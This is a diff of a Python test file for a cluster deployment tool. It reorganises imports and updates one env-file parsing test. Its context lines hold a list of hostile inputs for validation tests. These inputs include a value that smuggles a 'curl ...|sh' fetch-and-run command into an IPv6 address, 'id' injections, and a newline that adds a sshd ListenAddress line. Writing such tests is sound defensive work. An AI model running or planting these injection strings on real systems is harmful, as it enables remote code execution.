@@ -21,7 +21,10 @@ from fabfile.core.files import UnsafeValue, render
 from fabfile.core.inventory import parse_inventory
 from fabfile.core.mapping import parse_mapping
 from fabfile.core.networks import Reach, check_bind_address, check_network, read_reach, strict_ip
-from fabfile.ops import launch, mesh, netenv, nfs, ray, sshfs
+from fabfile.ops.shared import launch
+from fabfile.ops import mesh, netenv, ray
+from fabfile.ops.storage import nfs, sshfs
+from fabfile.ops.shared import nodeenv
 
 HOSTILE = ["fd00::10%x;curl http://198.18.0.1/x|sh", "fd00::1%;id", "fd00::1%eth0", "fe80::1%x,*",
            "fd00::1%a\nListenAddress 0.0.0.0", "fd00::1%`id`"]
@@ -123,7 +126,7 @@ def test_a_nic_or_hca_name_is_quoted_in_the_env_file_and_refused_in_nccl_conf():
 
 
 def test_the_env_file_reader_takes_back_what_the_sh_filter_quoted():
-    assert netenv.env_lines("A='x y'\nB=plain\nC='it'\"'\"'s'\n") == {"A": "x y", "B": "plain", "C": "it's"}
+    assert nodeenv.env_lines("A='x y'\nB=plain\nC='it'\"'\"'s'\n") == {"A": "x y", "B": "plain", "C": "it's"}
 
 
 def test_launch_placeholders_are_quoted_for_the_shell():
